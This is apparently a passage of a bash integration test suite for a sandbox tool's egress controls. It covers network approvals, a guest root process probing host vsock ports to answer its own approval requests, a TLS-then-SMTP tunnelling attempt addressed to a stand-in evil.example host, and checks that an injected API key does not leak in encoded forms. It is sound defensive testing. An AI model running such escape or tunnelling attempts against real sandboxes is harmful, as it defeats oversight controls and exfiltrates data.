	# The ports that listen first (the scan's positive control), then the
	# rest from 1 up for as long as the request waits: about 16 ms each.
	ports = [1053, 1080, 2049, 5000, 8080, 10000, 49152, 65535]
	ports += [p for p in range(1, 1501) if p not in ports]
	tried, connected, replies_ok, deadline = 0, [], 0, time.time() + 20
	for port in ports:
	    if time.time() > deadline:
	        break
	    tried += 1
	    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
	    s.settimeout(1)
	    try:
	        s.connect((socket.VMADDR_CID_HOST, port))
	    except OSError:
	        s.close()
	        continue
	    connected.append(port)
	    try:
	        s.sendall(msgs)
	        data = s.recv(4096)
	    except OSError:
	        data = b""
	    if b'"ok"' in data or b"requests" in data:
	        replies_ok += 1
	    s.close()
	print("eg: self_tried=%d" % tried)
	print("eg: self_connected=%s" % ",".join(map(str, connected)))
	print("eg: self_replies_ok=%d" % replies_ok)
	print("eg: self_end_ms=%d" % ((time.time() - t0) * 1000))
	EOF
	chmod +x "$WORK/eg/ws/always.sh" "$WORK/eg/ws/late.sh"
}

# eg_count PATTERN: audit lines of the second sandbox matching PATTERN (ERE).
eg_count() { grep -cE -- "$1" "$WORK/eg/audit"; }

# eg_num NAME OP N: the check's value must be a number with NAME OP N.
eg_num() {
	local v
	v=$(eg_field "$1")
	[[ $v =~ ^[0-9]+$ ]] && [ "$v" "$2" "$3" ] && return
	eg_bad="$eg_bad $1='$v'(want $2 $3)"
}

test_egress_approvals() {
	local name=egress-approvals-always-timeout-guest-cannot-answer pids=() st pol guest answered
	st=${KOSA8_STATE_DIR:-${XDG_STATE_HOME:-$HOME/.local/state}/kosa8}
	pol=$st/sandboxes/egress2/policy
	rm -rf "$WORK/eg" && mkdir -p "$WORK/eg/ws" "$WORK/eg/repos" && : >"$WORK/eg/requests.log"
	eg_make_ca || { not_ok "$name" "could not make the test CA"; return; }
	eg_write_server
	eg_write_approval_scripts
	printf 'ask always.test late.test\n' >"$WORK/eg/ap.policy"
	ip addr add 203.0.113.10/32 dev lo 2>/dev/null
	printf '203.0.113.10 always.test late.test\n' >>/etc/hosts
	python3 "$WORK/eg/server.py" "$WORK/eg/requests.log" "$WORK/eg/srv.crt" "$WORK/eg/srv.key" \
		"$WORK/eg/repos" >"$WORK/eg/server.out" 2>&1 &
	pids+=($!)
	for _ in $(seq 1 50); do
		grep -q ready "$WORK/eg/server.out" && break
		sleep 0.2
	done
	eg_step "approvals: starting the sandbox"
	KOSA8_APPROVAL_TIMEOUT=30 eg_k8 create --name egress2 --workspace "$WORK/eg/ws" \
		--policy "$WORK/eg/ap.policy" >"$WORK/eg/out" 2>&1 &&
		KOSA8_APPROVAL_TIMEOUT=30 eg_k8 start egress2 >>"$WORK/eg/out" 2>&1 ||
		{
			cp "$WORK/eg/out" "$WORK/out"
			not_ok "$name" "create/start failed: $(tail -1 "$WORK/eg/out")"
			eg_k8 rm -f egress2 >/dev/null 2>&1; kill "${pids[@]}"; return
		}
	: >"$WORK/eg/out"
	eg_step "approvals: allow always, answered after 16 s"
	eg_k8 exec egress2 -- /workspace/always.sh first >"$WORK/eg/always.out" 2>&1 </dev/null &
	guest=$!
	eg_answer always.test:80 always egress2 16
	wait "$guest"
	answered=$SECONDS
	cat "$WORK/eg/always.out" >>"$WORK/eg/out"
	eg_k8 policy check always.test:80 --sandbox egress2 >/dev/null 2>&1
	echo "eg: check_always_rc=$?" >>"$WORK/eg/out"
	eg_step "approvals: a request nobody answers, and guest root answering it"
	eg_k8 exec -u root egress2 -- /workspace/late.sh >"$WORK/eg/late.out" 2>&1 </dev/null &
	guest=$!
	for _ in $(seq 1 60); do
		eg_k8 approvals egress2 2>/dev/null | awk '$4 == "late.test:80" {f = 1} END {exit !f}' &&
			{ echo "eg: late_seen=yes" >>"$WORK/eg/out"; break; }
		sleep 0.5
	done
	wait "$guest"
	cat "$WORK/eg/late.out" >>"$WORK/eg/out"
	eg_k8 policy check late.test:80 --sandbox egress2 >/dev/null 2>&1
	echo "eg: check_late_rc=$?" >>"$WORK/eg/out"
	eg_step "approvals: always.test again, past the allow-once minute"
	while [ $((SECONDS - answered)) -lt 63 ]; do sleep 1; done
	eg_k8 exec egress2 -- /workspace/always.sh second >>"$WORK/eg/out" 2>&1 </dev/null
	cp "$pol" "$WORK/eg/policy.after" 2>/dev/null
	eg_step "approvals: stopping"
	eg_k8 stop egress2 >/dev/null 2>&1
	eg_k8 audit show --sandbox egress2 >"$WORK/eg/audit" 2>&1
	cp "$st"/sandboxes/egress2/supervisor.log "$WORK/eg/" 2>/dev/null
	eg_k8 rm -f egress2 >/dev/null 2>&1
	kill "${pids[@]}" 2>/dev/null
	wait "${pids[@]}" 2>/dev/null
	sed -i '/^203\.0\.113\.10 always\.test late\.test$/d' /etc/hosts
	ip addr del 203.0.113.10/32 dev lo 2>/dev/null

	eg_bad=
	eg_expect answer_always rc0
	eg_expect always_first "hello from always.test"
	eg_num always_first_ms -ge 16000
	eg_expect always_second "hello from always.test"
	eg_num always_second_ms -lt 25000
	eg_expect check_always_rc 0
	grep -qE "^allow always\.test:80[[:space:]]+# approval [0-9]+ by root, " "$WORK/eg/policy.after" ||
		eg_bad="$eg_bad always-rule-not-in-the-policy-file"
	[ "$(eg_count 'approval\.request .*always\.test')" = 1 ] ||
		eg_bad="$eg_bad always.test-asked-$(eg_count 'approval\.request .*always\.test')-times"
	# The second connection passed on the rule, not on a grant.
	grep 'net\.connect ' "$WORK/eg/audit" | grep always.test | tail -1 |
		grep -qE '"rule": ?"allow always\.test:80 \(approval [0-9]+ by root:[0-9]+\)"' ||
		eg_bad="$eg_bad second-always-connection-not-by-the-rule"
	[ "$(grep -c '^http always.test ' "$WORK/eg/requests.log")" = 2 ] ||
		eg_bad="$eg_bad always.test-requests-at-server-$(grep -c '^http always.test ' "$WORK/eg/requests.log")"
	eg_expect late_seen yes
	eg_expect late_rc "~^(52|56)$"
	eg_num late_ms -ge 29000
	eg_num late_ms -lt 60000
	eg_expect check_late_rc 3
	eg_num self_tried -ge 500
	eg_expect self_connected "1053,1080"
	eg_expect self_replies_ok 0
	# The guest's tries were over before the request timed out.
	[ "$(eg_field self_end_ms)" -lt "$(eg_field late_ms)" ] 2>/dev/null ||
		eg_bad="$eg_bad self-answer-not-done-while-waiting"
	eg_count 'approval\.answer .*late\.test' | grep -qx 1 || eg_bad="$eg_bad late.test-not-answered-once"
	grep 'approval\.answer ' "$WORK/eg/audit" | grep late.test | grep -E '"answer": ?"deny"' |
		grep -qE '"who": ?"timeout"' || eg_bad="$eg_bad no-audited-timeout-deny"
	grep 'net\.connect ' "$WORK/eg/audit" | grep late.test | grep -qE '"reason": ?"not approved"' ||
		eg_bad="$eg_bad no-audited-late-connection-refusal"
	grep -q late.test "$WORK/eg/requests.log" && eg_bad="$eg_bad late.test-reached-the-server"
	grep -q "^allow late.test" "$WORK/eg/policy.after" && eg_bad="$eg_bad late.test-allowed-in-the-policy-file"
	eg_step "approvals: first always.test $(eg_field always_first_ms) ms, second $(eg_field always_second_ms) ms;" \
		"late.test $(eg_field late_ms) ms (curl $(eg_field late_rc)); guest tried $(eg_field self_tried) ports" \
		"in $(eg_field self_end_ms) ms, connected: $(eg_field self_connected)"
	if [ -n "$eg_bad" ]; then
		cp "$WORK/eg/out" "$WORK/out"
		{
			echo "--- requests.log"; cat "$WORK/eg/requests.log"
			echo "--- policy"; cat "$WORK/eg/policy.after"
			echo "--- audit (approval, net)"; grep -E "approval|net\." "$WORK/eg/audit" | tail -20
			echo "--- supervisor.log"; tail -15 "$WORK/eg/supervisor.log"
			echo "--- approvals"; cat "$WORK/eg/approvals.out"
			echo "--- checkpoint, rewind, fork"; tail -5 "$WORK/eg/after.err"
		} >>"$WORK/out" 2>/dev/null
		not_ok "$name" "$eg_bad"
		return
	fi
	ok "$name"
}

# Issue 23 items 5 and 7 from a real guest, one sandbox:
#   - a valid ClientHello (made by the guest's own Python ssl) for an
#     allowed name, then plain SMTP: closed, audited "not a TLS record",
#     and the server behind the name gets the hello and none of the SMTP;
#   - the same allowed bare name on port 25: refused by policy, nothing
#     reaches the server's port 25;
#   - a server that answers a secret's host with the injected key gzipped,
#     deflated, in base64/hex/percent and in 8-byte runs: curl in the guest
#     sees none of it.
# Servers on 203.0.113.11 (enc.test: HTTPS echo) and 203.0.113.12
# (tunnel.test: a recorder on 443 and 25 that only logs what it gets).
eg_write_tunnel_servers() {
	cat >"$WORK/egt/servers.py" <<-'EOF'
	import base64, gzip, http.server, socket, socketserver, ssl, sys, threading, zlib
	log, cert, key = sys.argv[1], sys.argv[2], sys.argv[3]
	lock = threading.Lock()
	def note(line):
	    with lock, open(log, "a") as f:
	        f.write(line + "\n")
	def recorder(port):
	    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
	    s.bind(("203.0.113.12", port)); s.listen(16)
	    while True:
	        c, _ = s.accept(); c.settimeout(20); data = b""
	        try:
	            while True:
	                d = c.recv(4096)
	                if not d:
	                    break
	                data += d
	        except OSError:
	            pass
	        note("recorder %d %s" % (port, data.hex()))
	        c.close()
	class H(http.server.BaseHTTPRequestHandler):
	    protocol_version = "HTTP/1.1"
	    def log_message(self, *a):
	        pass
	    def do_GET(self):
	        v = self.headers.get("X-Api-Key", "").encode()
	        note("enc %s key=%s" % (self.path, v.decode()))
	        parts = [v, base64.b64encode(v), base64.urlsafe_b64encode(v).rstrip(b"="), v.hex().encode(),
	                 v.hex().upper().encode(), "".join("%%%02X" % c for c in v).encode()]
	        for o in range(len(v) - 7):
	            parts += [v[o:o + 8], base64.b64encode(v[o:o + 9]), v[o:o + 8].hex().encode()]
	        body = b" | ".join(parts) + b"\n"
	        coding = self.path.strip("/")
	        if coding == "gzip":
	            body = gzip.compress(body)
	        elif coding == "deflate":
	            body = zlib.compress(body)
	        self.send_response(200)
	        self.send_header("Content-Length", str(len(body)))
	        if coding:
	            self.send_header("Content-Encoding", coding)
	        self.end_headers()
	        self.wfile.write(body)
	class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
	    daemon_threads = True
	    allow_reuse_address = True
	enc = S(("203.0.113.11", 443), H)
	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
	enc.socket = ctx.wrap_socket(enc.socket, server_side=True)
	threading.Thread(target=enc.serve_forever, daemon=True).start()
	for p in (443, 25):
	    threading.Thread(target=recorder, args=(p,), daemon=True).start()
	print("ready", flush=True)
	threading.Event().wait()
	EOF
	cat >"$WORK/egt/ws/tunnel.sh" <<-'EOF'
	#!/bin/bash
	# The guest's attempts; one "eg: NAME=VALUE" line each.
	python3 - <<-'PY'
	import socket, ssl, time
	def hello(name):
	    # A real ClientHello, from this guest's own TLS library.
	    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
	    o = ssl.create_default_context().wrap_bio(inc, out, server_hostname=name)
	    try:
	        o.do_handshake()
	    except ssl.SSLWantReadError:
	        pass
	    return out.read()
	def attempt(port, first, then):
	    # The hello alone first (the proxy checks it and connects), then
	    # the payload, as the attack in the issue did.
	    s = socket.create_connection(("tunnel.test", port), timeout=30)
	    got = b""
	    try:
	        s.sendall(first)
	        time.sleep(2)
	        s.sendall(then)
	        while True:
	            d = s.recv(4096)
	            if not d:
	                return "closed" + ("-after-%d-bytes" % len(got) if got else "")
	            got += d
	    except socket.timeout:
	        return "still-open"
	    except OSError as e:
	        return "closed" if got == b"" else "closed-after-%d-bytes" % len(got)
	smtp = b"EHLO evil.example\r\nMAIL FROM:<k8@evil.example>\r\nRCPT TO:<x@y.example>\r\nDATA\r\nk8-tunnel-data\r\n.\r\n"
	print("eg: hello_len=%d" % len(hello("tunnel.test")))
	print("eg: tls_then_smtp=%s" % attempt(443, hello("tunnel.test"), smtp))
	print("eg: port25=%s" % attempt(25, hello("tunnel.test"), smtp))
	PY
	for c in plain gzip deflate; do
		p=/$c; [ $c = plain ] && p=/
		curl -sS --max-time 30 -H "X-Api-Key: $TUN_KEY" "https://enc.test$p" >/tmp/enc-$c 2>&1
		echo "eg: enc_${c}_rc=$?"
		echo "eg: enc_${c}_fields=$(tr '|' '\n' </tmp/enc-$c | wc -l)"
		sed 's/^/eg-enc: /' /tmp/enc-$c
	done
	echo "eg: key=$TUN_KEY"
	EOF
	chmod +x "$WORK/egt/ws/tunnel.sh"
}

# Whether text on stdin holds an 8-byte run of $1 as it is, in hex or
# base64 (6 bytes make 8 characters at any alignment) or percent-encoded.
eg_leaks() {
	python3 -c '
import base64, sys
v, t = sys.argv[1].encode(), sys.stdin.buffer.read()
for o in range(len(v) - 7):
    r = v[o:o + 8]
    for e in (r, r.hex().encode(), r.hex().upper().encode(), base64.b64encode(v[o:o + 6]),
              "".join("%%%02X" % c for c in r).encode()):
        if e in t:
            print("leak", o, e.decode()); sys.exit(0)
sys.exit(1)' "$1"
}

test_egress_tunnels() {
	local name=egress-tls-framing-bare-ports-encoded-secrets pids=() value=k8sk-Tunnel-0123456789-abcdefXYZ
	rm -rf "$WORK/egt" "$WORK/eg" && mkdir -p "$WORK/egt/ws" "$WORK/eg"
	eg_make_ca || { not_ok "$name" "could not make the test CA"; return; }
	# The CA's certificate names allowed.test and friends: one for enc.test.
	openssl req -newkey rsa:2048 -nodes -subj "/CN=enc.test" -keyout "$WORK/egt/enc.key" \
		-out "$WORK/egt/enc.csr" 2>/dev/null &&
		printf 'subjectAltName=DNS:enc.test\nextendedKeyUsage=serverAuth\n' >"$WORK/egt/ext" &&
		openssl x509 -req -in "$WORK/egt/enc.csr" -CA "$WORK/eg/ca.crt" -CAkey "$WORK/eg/ca.key" \
			-CAcreateserial -days 2 -extfile "$WORK/egt/ext" -out "$WORK/egt/enc.crt" 2>/dev/null ||
		{ not_ok "$name" "could not make enc.test's certificate"; return; }
	eg_write_tunnel_servers
	ip addr add 203.0.113.11/32 dev lo 2>/dev/null
	ip addr add 203.0.113.12/32 dev lo 2>/dev/null
	cp /etc/hosts "$WORK/egt/hosts.saved"
	printf '203.0.113.11 enc.test\n203.0.113.12 tunnel.test\n' >>/etc/hosts
	python3 "$WORK/egt/servers.py" "$WORK/egt/log" "$WORK/egt/enc.crt" "$WORK/egt/enc.key" \
		>"$WORK/egt/servers.out" 2>&1 &
	pids+=($!)
	for _ in $(seq 1 50); do grep -q ready "$WORK/egt/servers.out" && break; sleep 0.2; done
	eg_k8 secret rm TUN_KEY >/dev/null 2>&1
	printf '%s' "$value" | eg_k8 secret add TUN_KEY --host enc.test >"$WORK/egt/out" 2>&1 ||
		{ not_ok "$name" "kosa8 secret add failed: $(head -1 "$WORK/egt/out")"; kill "${pids[@]}"; return; }
	eg_step "tunnels: creating and starting the sandbox"
	if KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 create --name egtun --workspace "$WORK/egt/ws" \
		--allow enc.test --allow tunnel.test --secret TUN_KEY >"$WORK/egt/out" 2>&1 &&
		KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 start egtun >>"$WORK/egt/out" 2>&1; then
		eg_step "tunnels: guest checks"
		eg_k8 exec egtun -- /workspace/tunnel.sh >"$WORK/egt/guest" 2>&1 </dev/null
		eg_k8 stop egtun >/dev/null 2>&1
		eg_k8 audit show --sandbox egtun >"$WORK/egt/audit" 2>&1
	else
		cp "$WORK/egt/out" "$WORK/out"
		not_ok "$name" "create/start failed: $(tail -1 "$WORK/egt/out")"
	fi
	eg_k8 rm -f egtun >/dev/null 2>&1
	eg_k8 secret rm TUN_KEY >/dev/null 2>&1
	kill "${pids[@]}" 2>/dev/null
	wait "${pids[@]}" 2>/dev/null
	cp "$WORK/egt/hosts.saved" /etc/hosts
	ip addr del 203.0.113.11/32 dev lo 2>/dev/null
	ip addr del 203.0.113.12/32 dev lo 2>/dev/null
	[ -f "$WORK/egt/guest" ] || return

	cp "$WORK/egt/guest" "$WORK/eg/out"   # eg_field reads it there
	eg_bad=
	eg_expect hello_len "~^[1-9][0-9]{2,}$"
	eg_expect tls_then_smtp closed
	eg_expect port25 closed
	eg_expect key "~^k8s-placeholder-TUN_KEY-"
	for c in plain gzip deflate; do
		eg_expect enc_${c}_rc 0
		eg_expect enc_${c}_fields "~^[0-9]{2,}$"
	done
	grep -q "^enc / key=$value$" "$WORK/egt/log" || eg_bad="$eg_bad server-did-not-get-the-secret"
	grep -q "^eg-enc: .*$(eg_field key)" "$WORK/egt/guest" || eg_bad="$eg_bad guest-did-not-see-the-placeholder"
	eg_leaks "$value" <"$WORK/egt/guest" >"$WORK/egt/leak" && eg_bad="$eg_bad secret-run-seen-in-guest:$(cat "$WORK/egt/leak")"
	# The recorder behind tunnel.test:443 got a hello and no SMTP; port 25
	# got nothing at all (the proxy never connected).
	grep -q "^recorder 443 16030" "$WORK/egt/log" || eg_bad="$eg_bad hello-did-not-reach-upstream"
	grep "^recorder 443 " "$WORK/egt/log" | grep -q "$(printf 'EHLO' | xxd -p)" && eg_bad="$eg_bad smtp-reached-upstream"
	grep -q "^recorder 25 " "$WORK/egt/log" && eg_bad="$eg_bad port-25-reached"
	grep "net.connect" "$WORK/egt/audit" | grep "tunnel.test" | grep -E '"port": ?443' |
		grep -E '"decision": ?"deny"' | grep -qE '"reason": ?"not a TLS record"' ||
		eg_bad="$eg_bad no-audited-tls-framing-refusal"
	grep "net.connect" "$WORK/egt/audit" | grep "tunnel.test" | grep -E '"port": ?25' |
		grep -qE '"reason": ?"policy"' || eg_bad="$eg_bad no-audited-port-25-refusal"
	grep -q "$value" "$WORK/egt/audit" && eg_bad="$eg_bad secret-value-in-audit-log"
	if [ -n "$eg_bad" ]; then
		{
			cat "$WORK/egt/guest"; echo "--- server log"; cat "$WORK/egt/log"
			echo "--- audit (net)"; grep -E "net\.|secret" "$WORK/egt/audit" | tail -20
		} >"$WORK/out" 2>/dev/null
		not_ok "$name" "$eg_bad"
		return
	fi
	ok "$name"
}
